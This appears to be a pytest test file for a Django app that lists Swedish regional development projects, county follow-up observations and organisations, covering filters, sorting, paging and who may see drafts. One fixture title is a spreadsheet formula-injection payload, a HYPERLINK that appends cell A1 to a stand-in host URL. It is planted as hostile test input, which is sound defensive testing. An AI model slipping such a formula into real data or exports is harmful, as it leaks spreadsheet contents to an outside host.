"""The filtered lists as a user sees them: each filter narrows, sorting, pages, who sees what."""

import datetime
from html.parser import HTMLParser

import pytest

from agreements.models import FinancingLine, Municipality, OrganisationKind, Project
from followup.models import Observation, ReportStatus, Theme
from followup.selectors import lists
from tests import builders

pytestmark = pytest.mark.django_db

INJECTED_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'


class _Table(HTMLParser):
    """The body rows of the page's list table, as lists of cell texts."""

    def __init__(self):
        super().__init__()
        self.rows, self._row, self._cell, self._in_body = [], None, None, False

    def handle_starttag(self, tag, attrs):
        if tag == "tbody":
            self._in_body = True
        elif tag == "tr" and self._in_body:
            self._row = []
        elif tag == "td" and self._row is not None:
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append(" ")

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            self._row.append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            self.rows.append(self._row)
            self._row = None
        elif tag == "tbody":
            self._in_body = False

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def table_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    parser = _Table()
    parser.feed(response.content.decode())
    return parser.rows


def references(response) -> list[str]:
    return [row[1] for row in table_rows(response)]


def municipality(code: str) -> Municipality:
    return Municipality.objects.get(code=code)


def build_lists():
    """Three projects in Södermanland and one in Östergötland; reports and observations in
    2001 (Södermanland submitted, Östergötland a draft) and a Södermanland draft in 2002."""
    agreement_04 = builders.agreement(county_code="04")
    area_1 = builders.priority_area(agreement_obj=agreement_04, number=1)
    area_2 = builders.priority_area(agreement_obj=agreement_04, number=2, name="Kompetens")
    measure_11 = builders.measure(area=area_1)
    measure_21 = builders.measure(area=area_2, name="Turism")
    agreement_05 = builders.agreement(county_code="05")
    measure_05 = builders.measure(area=builders.priority_area(agreement_obj=agreement_05))

    volvo = builders.organisation(name="Volvo Construction Equipment AB", org_number="5560125790")
    nykoping = builders.organisation(
        name="Nyköpings kommun", kind_code=OrganisationKind.MUNICIPALITY
    )
    person = builders.organisation(
        name="+46 Privatperson", kind_code=OrganisationKind.PRIVATE_PERSON
    )
    linkoping = builders.organisation(
        name="Östgötamärke Linköping AB", county=builders.county("05")
    )

    p1 = builders.project(
        measure_obj=measure_11,
        reference_number="304-0001-01",
        title="Tungfordonsklustret",
        owner=volvo,
        municipality=municipality("0484"),
        status=Project.Status.ONGOING,
        start_date=datetime.date(2001, 3, 1),
    )
    builders.financing_line(project_obj=p1, amount="500000", year=2001)
    builders.financing_line(
        project_obj=p1,
        amount="100000",
        year=2001,
        source_obj=builders.source("kommun"),
        kind=FinancingLine.Kind.OUTCOME,
    )
    p2 = builders.project(
        measure_obj=measure_21,
        reference_number="304-0002-01",
        title="Turism i Sörmland",
        owner=nykoping,
        municipality=municipality("0480"),
        status=Project.Status.GRANTED,
        start_date=datetime.date(2002, 1, 1),
        end_date=datetime.date(2003, 12, 31),
    )
    builders.financing_line(
        project_obj=p2, amount="2000000", year=2002, source_obj=builders.source("eu-strukturfonder")
    )
    builders.project(
        measure_obj=measure_11,
        reference_number="304-0003-01",
        title=INJECTED_TITLE,
        owner=person,
        status=Project.Status.APPLIED,
        start_date=datetime.date(2001, 6, 1),
    )
    p4 = builders.project(
        measure_obj=measure_05,
        reference_number="501-0001-01",
        title="Östgötamärke Flygklustret",
        owner=linkoping,
        municipality=municipality("0580"),
        status=Project.Status.ONGOING,
        start_date=datetime.date(2001, 1, 1),
    )
    builders.financing_line(project_obj=p4, amount="750000.50", year=2001)

    round_2001 = builders.follow_up_round(year=2001)
    round_2002 = builders.follow_up_round(year=2002)
    themes = list(Theme.objects.all()[:2])
    submitted = builders.county_report(
        round_obj=round_2001, county_code="04", status=ReportStatus.SUBMITTED
    )
    builders.observation(
        report=submitted, theme=themes[0], assessment=4, text="Sörmlands klusterarbete syns."
    )
    builders.observation(
        report=submitted,
        theme=themes[1],
        assessment=2,
        kind=Observation.Kind.RECOMMENDATION,
        text="Sörmland bör fördjupa de lokala partnerskapen.",
    )
    draft_05 = builders.county_report(round_obj=round_2001, county_code="05")
    builders.observation(report=draft_05, theme=themes[0], text="Utkastmärke Östgötamärke.")
    draft_04 = builders.county_report(round_obj=round_2002, county_code="04")
    builders.observation(report=draft_04, theme=themes[0], text="Sörmlands utkast 2002.")
    return {
        "agreement_04": agreement_04,
        "measure_21": measure_21,
        "themes": themes,
        "report": submitted,
    }


@pytest.fixture
def data():
    return build_lists()


@pytest.fixture
def as_reviewer(client, reviewer):
    client.force_login(reviewer)
    return client


# --- projects ------------------------------------------------------------------------------


ALL_PROJECTS = ["304-0001-01", "304-0002-01", "304-0003-01", "501-0001-01"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ALL_PROJECTS),
        ("county=05", ["501-0001-01"]),
        ("municipality=0484", ["304-0001-01"]),
        ("owner_kind=kommun", ["304-0002-01"]),
        ("status=beviljat", ["304-0002-01"]),
        ("source=eu-strukturfonder", ["304-0002-01"]),
        ("year=2001", ["304-0001-01", "501-0001-01"]),
        ("source=kommun&year=2001", ["304-0001-01"]),
        ("source=kommun&year=2002", []),
        ("amount_min=600000", ["304-0002-01", "501-0001-01"]),
        ("amount_max=600000", ["304-0001-01", "304-0003-01"]),
        ("amount_min=500000&amount_max=750000", ["304-0001-01"]),
        ("q=tungfordon", ["304-0001-01"]),
        ("q=volvo", ["304-0001-01"]),
        ("q=304-0002", ["304-0002-01"]),
        ("q=klustret+flyg", ["501-0001-01"]),
        ("county=04&status=pagaende", ["304-0001-01"]),
    ],
)
def test_each_project_filter_narrows_the_list(as_reviewer, data, query, expected):
    assert references(as_reviewer.get(f"/projekt/?{query}")) == expected


def test_measure_filter_lists_measures_by_county_and_narrows(as_reviewer, data):
    response = as_reviewer.get("/projekt/")
    assert "Södermanland 2.1 Turism" in response.content.decode()
    measure = data["measure_21"].pk
    assert references(as_reviewer.get(f"/projekt/?measure={measure}")) == ["304-0002-01"]


def test_project_row_reads_in_swedish(as_reviewer, data):
    response = as_reviewer.get("/projekt/?q=turism")
    rows = table_rows(response)
    assert rows == [
        [
            "Södermanland",
            "304-0002-01",
            "Turism i Sörmland Åtgärd 2.1 Turism",
            "Nyköpings kommun Kommun",
            "Nyköping",
            "Beviljat",
            "2002-01-01",
            "2 000 000",
        ]
    ]
    assert '<td class="num">2\xa0000\xa0000</td>' in response.content.decode()


def test_filter_form_has_a_label_for_every_field_and_works_without_javascript(as_reviewer, data):
    page = as_reviewer.get("/projekt/").content.decode()
    assert '<form method="get"' in page
    for name, label in [
        ("q", "Sök (diarienummer, projektnamn, projektägare)"),
        ("county", "Län"),
        ("municipality", "Kommun"),
        ("measure", "Åtgärd"),
        ("owner_kind", "Typ av projektägare"),
        ("status", "Status"),
        ("source", "Finansieringskälla"),
        ("year", "År (finansiering)"),
        ("amount_min", "Beslutat belopp från (kr)"),
        ("amount_max", "Beslutat belopp till (kr)"),
    ]:
        assert f'<label for="id_{name}">{label}</label>' in page
        assert f'id="id_{name}"' in page


def test_the_chosen_filters_stay_chosen(as_reviewer, data):
    page = as_reviewer.get("/projekt/?county=05&municipality=0580&q=flyg").content.decode()
    assert '<option value="05" selected>' in page
    assert '<option value="0580" selected>Linköping (0580)</option>' in page
    assert 'value="flyg"' in page
    assert '<option value="" >' not in page and '<option value="">Alla</option>' in page


def test_a_wrong_value_is_explained_and_the_rest_still_filters(as_reviewer, data):
    response = as_reviewer.get("/projekt/?year=tjugohundra&county=05")
    page = response.content.decode()
    assert '<span class="field-error" id="id_year-fel">Fyll i ett tal.</span>' in page
    assert 'aria-describedby="id_year-fel"' in page
    assert references(response) == ["501-0001-01"]


def test_coordinator_sees_only_their_countys_projects(client, data, coordinator_04):
    client.force_login(coordinator_04)
    assert references(client.get("/projekt/")) == ["304-0001-01", "304-0002-01", "304-0003-01"]
    assert references(client.get("/projekt/?county=05")) == []
    assert "Östgötamärke" not in client.get("/projekt/?q=klustret").content.decode()


def test_account_without_role_is_refused(client, data, staff_without_role):
    client.force_login(staff_without_role)
    assert client.get("/projekt/").status_code == 403


@pytest.mark.parametrize(
    ("ordering", "expected"),
    [
        ("-decided_total", ["304-0002-01", "501-0001-01", "304-0001-01", "304-0003-01"]),
        ("decided_total", ["304-0003-01", "304-0001-01", "501-0001-01", "304-0002-01"]),
        ("title", ["304-0003-01", "304-0001-01", "304-0002-01", "501-0001-01"]),
        ("-reference_number", ["501-0001-01", "304-0003-01", "304-0002-01", "304-0001-01"]),
        ("start_date", ["501-0001-01", "304-0001-01", "304-0003-01", "304-0002-01"]),
        ("-county", ["501-0001-01", *ALL_PROJECTS[:3]]),
        ("owner", ["304-0003-01", "304-0002-01", "304-0001-01", "501-0001-01"]),
        ("description", ALL_PROJECTS),  # not on the whitelist: the default order
        ("", ALL_PROJECTS),
    ],
)
def test_projects_sort_by_whitelisted_columns(as_reviewer, data, ordering, expected):
    assert references(as_reviewer.get(f"/projekt/?ordering={ordering}")) == expected


def test_column_header_sorts_and_says_so(as_reviewer, data):
    page = as_reviewer.get("/projekt/?county=04&ordering=title").content.decode()
    assert '<th scope="col" aria-sort="ascending">' in page
    assert 'href="?county=04&amp;ordering=-title"' in page  # a second click sorts descending
    assert 'href="?county=04&amp;ordering=decided_total"' in page
    # Filtering again keeps the sort order.
    assert '<input type="hidden" name="ordering" value="title">' in page


def test_pages_keep_filters_and_sort_order(as_reviewer, data, monkeypatch):
    monkeypatch.setattr(lists, "PAGE_SIZE", 2)
    first = as_reviewer.get("/projekt/?ordering=-decided_total")
    assert references(first) == ["304-0002-01", "501-0001-01"]
    page = first.content.decode()
    assert "4 träffar, visar 1–2" in page
    assert "Sida 1 av 2" in page
    assert 'href="?ordering=-decided_total&amp;sida=2" rel="next"' in page
    second = as_reviewer.get("/projekt/?ordering=-decided_total&sida=2")
    assert references(second) == ["304-0001-01", "304-0003-01"]
    assert "Sida 2 av 2" in second.content.decode()
    # A page past the end shows the last one, as a bookmark that outlived its rows would.
    assert references(as_reviewer.get("/projekt/?ordering=-decided_total&sida=9")) == [
        "304-0001-01",
        "304-0003-01",
    ]


def test_an_empty_result_says_so(as_reviewer, data):
    page = as_reviewer.get("/projekt/?q=finns-inte").content.decode()
    assert "Inga träffar" in page
    assert "<tbody>" not in page


# --- observations --------------------------------------------------------------------------


def observation_texts(response) -> list[str]:
    return [row[6] for row in table_rows(response)]


def test_reviewer_never_sees_a_draft_observation(as_reviewer, data):
    assert observation_texts(as_reviewer.get("/iakttagelser/")) == [
        "Sörmlands klusterarbete syns.",
        "Sörmland bör fördjupa de lokala partnerskapen.",
    ]
    page = as_reviewer.get("/iakttagelser/?county=05").content.decode()
    assert "Utkastmärke" not in page
    assert "Inga träffar" in page


def test_coordinator_sees_their_own_drafts_and_no_other_countys(client, data, coordinator_04):
    client.force_login(coordinator_04)
    texts = observation_texts(client.get("/iakttagelser/"))
    assert texts == [
        "Sörmlands utkast 2002.",
        "Sörmlands klusterarbete syns.",
        "Sörmland bör fördjupa de lokala partnerskapen.",
    ]
    assert "Utkastmärke" not in client.get("/iakttagelser/?county=05").content.decode()


def test_an_observation_links_to_its_county_page(as_reviewer, data):
    page = as_reviewer.get("/iakttagelser/?round=2001").content.decode()
    assert '<a href="/omgang/2001/lan/04/">Södermanland</a>' in page


def test_the_comparison_matrix_link_opens_the_cell(client, data, coordinator_04):
    client.force_login(coordinator_04)
    theme = data["themes"][0].pk
    response = client.get(f"/iakttagelser/?round=2001&county=04&theme={theme}")
    assert observation_texts(response) == ["Sörmlands klusterarbete syns."]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("round=2002", ["Sörmlands utkast 2002."]),
        ("assessment=2", ["Sörmland bör fördjupa de lokala partnerskapen."]),
        ("kind=rekommendation", ["Sörmland bör fördjupa de lokala partnerskapen."]),
        ("q=klusterarbete", ["Sörmlands klusterarbete syns."]),
        (
            "ordering=-assessment&round=2001",
            [
                "Sörmlands klusterarbete syns.",
                "Sörmland bör fördjupa de lokala partnerskapen.",
            ],
        ),
        (
            "ordering=assessment&round=2001",
            [
                "Sörmland bör fördjupa de lokala partnerskapen.",
                "Sörmlands klusterarbete syns.",
            ],
        ),
    ],
)
def test_each_observation_filter_narrows_the_list(client, data, coordinator_04, query, expected):
    client.force_login(coordinator_04)
    assert observation_texts(client.get(f"/iakttagelser/?{query}")) == expected


# --- organisations -------------------------------------------------------------------------


def organisation_names(response) -> list[str]:
    return [row[0] for row in table_rows(response)]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=volvo", ["Volvo Construction Equipment AB"]),
        ("q=5560125790", ["Volvo Construction Equipment AB"]),
        ("q=556012-5790", ["Volvo Construction Equipment AB"]),
        ("kind=privatperson", ["+46 Privatperson"]),
        ("county=05&kind=foretag", ["Östgötamärke Linköping AB"]),
    ],
)
def test_each_organisation_filter_narrows_the_list(as_reviewer, data, query, expected):
    assert organisation_names(as_reviewer.get(f"/organisationer/?{query}")) == expected


def test_organisations_are_shared_reading_for_coordinators(client, data, coordinator_04):
    client.force_login(coordinator_04)
    names = organisation_names(client.get("/organisationer/?q=östgötamärke"))
    assert names == ["Östgötamärke Linköping AB"]


@pytest.mark.parametrize("url", ["/projekt/", "/iakttagelser/"])
def test_the_county_list_offers_only_the_counties_the_user_reads(client, data, coordinator_04, url):
    client.force_login(coordinator_04)
    counties = client.get(url).context["filter"].form.fields["county"].widget.choices
    assert [code for code, _label in counties] == ["", "04"]


@pytest.mark.parametrize("url", ["/projekt/", "/iakttagelser/"])
def test_a_reviewer_is_offered_every_county(as_reviewer, data, url):
    counties = as_reviewer.get(url).context["filter"].form.fields["county"].widget.choices
    assert len([code for code, _label in counties if code]) == 21
